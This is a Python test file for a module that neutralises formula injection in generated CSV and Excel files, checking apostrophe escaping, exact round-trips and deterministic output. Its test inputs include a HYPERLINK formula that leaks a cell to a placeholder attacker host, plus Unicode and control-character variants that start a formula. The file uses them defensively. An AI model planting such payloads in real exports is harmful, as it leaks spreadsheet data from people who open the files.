"""The one writer of tables: no cell a spreadsheet could run as a formula,
the exact text recoverable, the same rows giving the same bytes."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from hypothesis import given
from hypothesis import strategies as st

from kernel import tabular
from kernel.tabular import FORMULA_STARTS, MARKER, neutralise, restore

FORMULA_SHAPED = [
    '=HYPERLINK("http://evil.test/?leak="&B2,"Click")',
    "=1+1",
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "\0=1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    " =1+1",
    "\u3000=1+1",  # an ideographic space first
]


@pytest.mark.parametrize("text", FORMULA_SHAPED)
def test_a_formula_shaped_text_gets_one_apostrophe(text):
    assert neutralise(text) == MARKER + text
    assert restore(neutralise(text)) == text


def test_a_text_starting_with_an_apostrophe_gets_another_so_that_restoring_is_exact():
    assert neutralise("'quoted") == "''quoted"
    assert restore("''quoted") == "'quoted"


@pytest.mark.parametrize("text", ["", "Avery", "20000000000014", "2026-03-01", "a=b", " Avery"])
def test_other_text_is_left_as_it_is(text):
    assert neutralise(text) == text


@given(st.text())
def test_restore_gives_back_exactly_the_text_and_no_cell_starts_a_formula(text):
    written = neutralise(text)
    assert restore(written) == text
    assert written[:1] not in FORMULA_STARTS
    assert written.lstrip()[:1] not in FORMULA_STARTS or written.startswith(MARKER)


def test_csv_lines_are_one_per_row_and_read_back_to_the_neutralised_cells():
    lines = list(tabular.csv_lines(["name", "n"], [["=1+1", 3], ['a "b",\r\nc', None]]))
    assert lines[0] == "name,n\r\n"
    assert len(lines) == 3
    rows = list(csv.reader(io.StringIO("".join(lines), newline="")))
    assert rows == [["name", "n"], ["'=1+1", "3"], ['a "b",\r\nc', ""]]


def test_csv_bytes_are_utf8_without_a_byte_order_mark():
    data = tabular.csv_bytes(["name"], [["Zoë"]])
    assert data == "name\r\nZoë\r\n".encode()


def _cells(data: bytes) -> tuple[str, str]:
    archive = zipfile.ZipFile(io.BytesIO(data))
    return archive.read("xl/worksheets/sheet1.xml").decode(), archive.read(
        "xl/sharedStrings.xml"
    ).decode()


def test_a_workbook_stores_formula_shaped_text_as_text_and_is_the_same_every_time():
    rows = [[text, "0123"] for text in FORMULA_SHAPED if "\0" not in text]
    first = tabular.xlsx_bytes([("01-registration", ["first_name", "postal_code"], rows)])
    assert tabular.xlsx_bytes([("01-registration", ["first_name", "postal_code"], rows)]) == first
    sheet, strings = _cells(first)
    assert "<f>" not in sheet and "<f " not in sheet
    # Every cell holding a value is a shared string (t="s").
    assert sheet.count("<v>") == sheet.count('t="s"') == 2 * (len(rows) + 1)
    assert "&amp;B2" in strings and "0123" in strings and MARKER + "=" not in strings


def test_a_workbook_refuses_a_text_longer_than_a_cell_rather_than_cut_it():
    with pytest.raises(ValueError):
        tabular.xlsx_bytes([("s", ["a"], [["x" * (tabular.XLSX_CELL_MAX + 1)]])])
